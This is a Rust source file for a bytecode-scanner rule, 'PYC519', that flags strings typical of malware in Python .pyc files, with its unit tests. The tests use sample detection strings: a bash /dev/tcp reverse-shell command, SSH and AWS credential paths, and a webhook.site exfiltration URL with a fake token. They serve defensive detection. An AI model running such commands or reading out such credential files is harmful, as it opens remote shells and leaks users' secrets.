//! PYC519.

use crate::content::IndicatorKind;
use crate::name;
use crate::rules::Findings;
use crate::rules::PycContext;
use crate::rules::Severity;
use crate::rules::declare_rule;
use crate::secret;

declare_rule! {
    /// ## What it reports
    /// Strings that point to what malware often does: commands that hand over a shell or run what they download, places where keys,
    /// passwords and wallets lie, services that data can be sent to without an account of one's own machine, addresses in the Tor
    /// network. One finding for a file: the first one, and how many there are. Addresses in general are not reported, nor what
    /// stands in a text of several lines, such as documentation.
    ///
    /// ## Why it matters
    /// It shows where to look first. A string says nothing of what is done with it.
    ///
    /// ## Innocent causes
    /// Clients of these services, tools that look after keys, security tools.
    ///
    /// ## Severity
    /// Low; info in tests, examples and documentation. Medium when there is a source beside it that does not have it, and the
    /// bytecode would run.
    ///
    /// ## What to do
    /// Look at what the module does with it.
    id: "PYC519",
    name: "indicator",
    summary: "strings that point to what malware does",
    severity: Low,
    check: Pyc(check),
}

/// Lines from which a text is documentation.
const LINES: usize = 4;

fn check(context: &PycContext<'_>, findings: &mut Findings<'_>) {
    let mut indicators = context.content.indicators();
    indicators.retain(|indicator| indicator.lines < LINES);
    let Some(first) = indicators.iter().min_by_key(|indicator| (indicator.kind, indicator.offset)) else { return };
    let count = indicators.len();
    let more = if count > 1 { format!("; the first of {count} such strings") } else { String::new() };
    let is_hidden = context.source.file().is_some() && context.is_hidden(first.text);
    let finding = findings.add(format!("`{}` holds {}{more}", context.module, first.kind.name()));
    let masked = secret::masked(first.text).filter(|_| !context.container.reveal_secrets);
    finding.at(first.offset).compared("", format!("`{}`", name::shown(masked.as_deref().unwrap_or(first.text))));
    let is_split = first.kind == IndicatorKind::Shell;
    if context.is_for_show() {
        finding.severity(Severity::Info);
    } else if is_hidden && !is_split && context.load.verdict.is_live() {
        finding.severity(Severity::Medium);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::forge::Case;
    use crate::forge::Pyc;
    use crate::forge::pyc::Value;

    fn pyc(text: &str) -> Vec<u8> {
        let consts = vec![Value::Str(text.to_owned()), Value::None];
        Pyc::python("3.12").source_mtime(100).consts(consts).build()
    }

    fn case(text: &str) -> Case {
        Case::tree().file("m.pyc", pyc(text), 1)
    }

    #[test]
    fn flags_places_of_keys_and_commands() {
        let finding = case("~/.ssh/id_rsa").flags(&RULE);
        assert_eq!(finding.message, "`m` holds the place of stored keys or passwords");
        assert_eq!((finding.severity, finding.observed.as_str()), (Severity::Low, "`~/.ssh/id_rsa`"));
        let finding = case("bash -c 'exec 3<>/dev/tcp/192.0.2.1/4444'").flags(&RULE);
        assert_eq!(finding.observed, "`bash -c 'exec 3<>/dev/tcp/192.0.2.1/4444'`");
        case(&format!("http://{}.onion/", "a".repeat(56))).flags(&RULE);
    }

    #[test]
    fn what_the_source_beside_it_does_not_have_is_medium() {
        let tree = Case::tree().file("p/m.py", "x = 1\n", 100);
        let tree = tree.file("p/__pycache__/m.cpython-312.pyc", pyc("~/.aws/credentials"), 101);
        assert_eq!(tree.flags(&RULE).severity, Severity::Medium);
        let tree = Case::tree().file("tests/m.pyc", pyc("~/.aws/credentials"), 1);
        assert_eq!(tree.flags(&RULE).severity, Severity::Info);
    }

    #[test]
    fn a_secret_beside_it_is_masked_even_where_the_text_is_cut() {
        let token = format!("glpat-{}", "Zq3xV7".repeat(20));
        let finding = case(&format!("https://webhook.site/{}?key={token}", "a".repeat(40))).flags(&RULE);
        assert!(finding.observed.contains("webhook.site/"), "{}", finding.observed);
        assert!(!finding.observed.contains("Zq3xV7Zq3xV7"), "{}", finding.observed);
    }

    #[test]
    fn passes_addresses_public_keys_and_documentation() {
        case("https://example.org/raw/").passes(&RULE);
        case("~/.ssh/id_rsa.pub").passes(&RULE);
        case("peel an.onion").passes(&RULE);
        case("How to log in.\n\nPut the key into\n\n    ~/.ssh/id_rsa\n\nand so on.\n").passes(&RULE);
    }
}
